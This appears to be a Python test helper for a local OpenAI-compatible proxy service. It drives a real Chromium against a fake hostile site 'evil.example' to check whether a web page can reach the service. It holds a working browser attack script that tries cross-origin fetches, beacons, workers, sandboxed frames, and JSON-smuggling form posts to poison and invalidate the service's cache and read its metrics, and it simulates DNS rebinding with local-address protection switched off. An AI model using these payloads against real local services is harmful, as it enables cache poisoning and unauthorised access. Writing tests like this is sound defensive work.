"""A page of another site in a real Chromium, that tries whatever a browser sends for a page without asking anybody.

The page is at a SITE whose name leads to this machine in this browser alone. Whatever else is asked of it is passed on
to the service, byte by byte: so the page can also do as if its name led there by now, which is what DNS rebinding
comes to.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec

SITE = "evil.example"
TIMEOUT = 60_000
"""Milliseconds."""

_PAGE = b"<!doctype html><title>A page</title><body>"
_NODE = Path(__file__).parents[1] / ".venv/openai-node/node_modules/openai"


class Foreign:
    """The site and the browser that shows it. `target` is what the site's name leads to, but for its page: a URL."""

    def __init__(self) -> None:
        self.target = ""
        self.origin = ""
        self.browser: Any = None

    @asynccontextmanager
    async def page(self) -> AsyncIterator[Any]:
        """With a fresh profile. At the end all that it has sent is answered, or given up by the browser."""
        profile = await self.browser.new_context()
        profile.set_default_timeout(TIMEOUT)
        under_way = 0
        idle = asyncio.Event()

        def count(change: int) -> None:
            nonlocal under_way
            under_way += change
            (idle.clear if under_way else idle.set)()

        profile.on("request", lambda _: count(1))
        profile.on("requestfinished", lambda _: count(-1))
        profile.on("requestfailed", lambda _: count(-1))
        page = await profile.new_page()
        await page.goto(f"{self.origin}/page")
        yield page
        async with asyncio.timeout(TIMEOUT / 1000):
            await idle.wait()
        await profile.close()

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One connection to the site."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            head = await reader.readuntil(b"\r\n\r\n")
            path = head.split(b" ", 2)[1].decode()
            if path == "/page" or path.startswith("/openai/"):
                kind, body = await asyncio.to_thread(_file, path)
                writer.write(b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type: " + kind)
                writer.write(b"\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
                await writer.drain()
            elif self.target:
                host, _, port = self.target.removeprefix("http://").partition(":")
                inward, outward = await asyncio.open_connection(host, int(port))
                outward.write(head)
                await asyncio.gather(_pipe(reader, outward), _pipe(inward, writer))
        writer.close()


class Attempts(msgspec.Struct, frozen=True):
    """How many ways were tried, and the beginnings of the answers with a good status that the page could read."""

    tried: int
    read: list[str]


@asynccontextmanager
async def foreign() -> AsyncIterator[Foreign]:
    """A site and a browser that finds it."""
    # Only `tools/setup.sh browser` installs it.
    from playwright.async_api import async_playwright  # type: ignore[import-not-found,unused-ignore]  # noqa: PLC0415

    chromium = next(filter(None, map(shutil.which, ("chromium", "google-chrome"))), None)
    if chromium is None:
        raise RuntimeError("neither Chromium nor Chrome is here: tools/setup.sh browser")
    site = Foreign()
    async with (
        await asyncio.start_server(site.answer, "127.0.0.1", 0) as server,
        async_playwright() as driver,
    ):
        site.origin = f"http://{SITE}:{server.sockets[0].getsockname()[1]}"
        site.browser = await driver.chromium.launch(
            executable_path=chromium,
            chromium_sandbox=os.geteuid() != 0,  # it does not work for root
            # Without the browser's own protection of local addresses, which others do not have.
            args=[
                f"--host-resolver-rules=MAP {SITE} 127.0.0.1",
                "--disable-features=LocalNetworkAccessChecks",
            ],
        )
        yield site
        await site.browser.close()


async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while part := await reader.read(2**16):
            writer.write(part)
            await writer.drain()
    finally:
        writer.close()


def _file(path: str) -> tuple[bytes, bytes]:
    """Content type and body: of the page, or of a file of OpenAI's client."""
    if path == "/page":
        return b"text/html", _PAGE
    file = (_NODE / path.removeprefix("/openai/")).resolve()
    if not file.is_relative_to(_NODE.resolve()) or not file.is_file():
        return b"text/plain", b""
    return b"text/javascript", file.read_bytes()


async def attack(page: Any, service: str, operations: str) -> Attempts:
    """Try everything at the addresses of the two listeners."""
    tried, read = await page.evaluate(_ATTACK, [service, operations])
    return Attempts(tried, read)


def has_openai_client() -> bool:
    return _NODE.is_dir()


STREAM = """async ([service]) => {
    const answer = await fetch(service + "/v1/chat/completions", {
        method: "POST",
        headers: {"content-type": "application/json", "x-dub5-timeout": "30s", "x-stainless-lang": "js"},
        body: JSON.stringify({model: "small", stream: true, messages: [{role: "user", content: "May I?"}]}),
    });
    const cache = answer.headers.get("cache-status"), id = answer.headers.get("x-request-id");
    let text = "";
    for await (const part of answer.body.pipeThrough(new TextDecoderStream())) text += part;
    return [answer.status, text, cache, id];
}"""
"""What an allowed page does without a library."""

CLIENT = """async ([service]) => {
    const {default: OpenAI} = await import("/openai/index.mjs");
    const client = new OpenAI({baseURL: service + "/v1", apiKey: "none", dangerouslyAllowBrowser: true, maxRetries: 0});
    const messages = [{role: "user", content: "And with a library?"}];
    let text = "";
    for await (const chunk of await client.chat.completions.create({model: "small", messages, stream: true}))
        text += chunk.choices[0]?.delta?.content ?? "";
    return text;
}"""
"""And what it does with OpenAI's own."""

_ATTACK = """async ([service, operations]) => {
    const question = {model: "small", messages: [{role: "user", content: "hello"}]};
    const targets = [
        ["/v1/chat/completions", question],
        ["/v1/cache/answers", {request: question, answer: "POISON"}],
        ["/v1/cache/invalidations", {all: true}],
    ];
    let tried = 0;
    const read = [];
    async function attempt(work) {
        tried++;
        try {
            const answer = await work();
            if (answer instanceof Response && answer.ok && answer.type !== "opaque")
                read.push(answer.url + " " + (await answer.text()).slice(0, 60));
        } catch { }  // what a browser does not let through is an error here
    }
    const bytes = (text) => new TextEncoder().encode(text);
    const multipart = (text) => { const form = new FormData(); form.append("a", text); return form; };
    const bodies = {
        text: (text) => text,
        urlencoded: (text) => new URLSearchParams([[text, ""]]),
        multipart,
        blob: (text) => new Blob([text]),
        "blob of JSON": (text) => new Blob([text], {type: "application/json"}),
        "blob of text": (text) => new Blob([text], {type: "text/plain;application/json"}),
        "blob of an odd type": (text) => new Blob([text], {type: "x/y+json"}),
        "typed array": bytes,
        "array buffer": (text) => bytes(text).buffer,
        "data view": (text) => new DataView(bytes(text).buffer),
    };
    const modes = [
        {mode: "no-cors"},
        {mode: "no-cors", keepalive: true, credentials: "include"},
        {mode: "no-cors", headers: {"content-type": "application/json", authorization: "Bearer x"}},
        {mode: "cors"},
        {mode: "cors", headers: {"content-type": "application/json"}},
        {mode: "cors", headers: {"content-type": "application/json", authorization: "Bearer x"}, credentials: "omit"},
        {mode: "cors", headers: {"content-type": "application/json"}, credentials: "include"},
        {mode: "cors", headers: {"content-type": "text/plain"}},
    ];
    const sent = (element, at) => new Promise((done) => {
        element.onload = element.onerror = () => done();
        at.append(element);
    });
    const make = (kind, properties) => Object.assign(document.createElement(kind), properties);
    const frame = (properties) => make("iframe", properties);
    const said = (worker) => new Promise((done) => { worker.onmessage = worker.onerror = () => done(); });

    for (const [path, wanted] of targets) {
        const url = service + path, text = JSON.stringify(wanted);
        for (const mode of modes)
            for (const body of Object.values(bodies))
                await attempt(() => fetch(url, {...mode, method: "POST", body: body(text)}));
        for (const body of Object.values(bodies)) {
            await attempt(async () => navigator.sendBeacon(url, body(text)));
            await attempt(() => new Promise((done) => {
                const request = new XMLHttpRequest();
                request.open("POST", url);
                request.onloadend = () => done(request.status === 200 ? new Response(request.responseText) : null);
                request.send(body(text));
            }));
        }
        for (const scope of ["Blob([text])", "TextEncoder().encode(text)", "String(text)"]) {
            const script = `const text = ${JSON.stringify(text)};
                const body = new ${scope};
                fetch(${JSON.stringify(url)}, {method: "POST", mode: "no-cors", body}).finally(() => postMessage(0));`;
            await attempt(() => said(new Worker(URL.createObjectURL(new Blob([script])))));
            await attempt(() => new Promise((done) => {  // without an origin
                onmessage = () => done();
                const inner = script.replace("postMessage(0)", "parent.postMessage(0, '*')");
                document.body.append(frame({sandbox: "allow-scripts", srcdoc: `<script>${inner}</` + "script>"}));
            }));
        }
        const name = text.slice(0, -1) + ',"user":"', value = '"}';  // the form's equals sign goes between
        for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
            await attempt(async () => {
                const target = frame({name: "f" + tried});
                document.body.append(target);
                const form = make("form", {method: "POST", action: url, enctype, target: target.name});
                form.append(make("input", {name, value}));
                document.body.append(form);
                const loaded = new Promise((done) => { target.onload = done; });
                form.submit();
                await loaded;
            });
        }
    }
    const places = [service + "/v1/models", service + "/v1/cache", service + "/", operations + "/metrics"];
    for (const url of places) {
        await attempt(() => fetch(url));
        await attempt(() => fetch(url, {mode: "no-cors"}));
        await attempt(() => fetch(url, {headers: {authorization: "Bearer x"}}));
        await attempt(() => sent(make("img", {src: url}), document.body));
        await attempt(() => sent(make("script", {src: url}), document.head));
        await attempt(() => sent(frame({src: url}), document.body));
        await attempt(() => new Promise((done) => {
            const source = new EventSource(url);
            source.onopen = source.onerror = () => done(source.close());
        }));
        await attempt(() => new Promise((done) => {
            const socket = new WebSocket(url.replace("http", "ws"));
            socket.onopen = socket.onerror = () => done(socket.close());
        }));
    }
    return [tried, read];
}"""
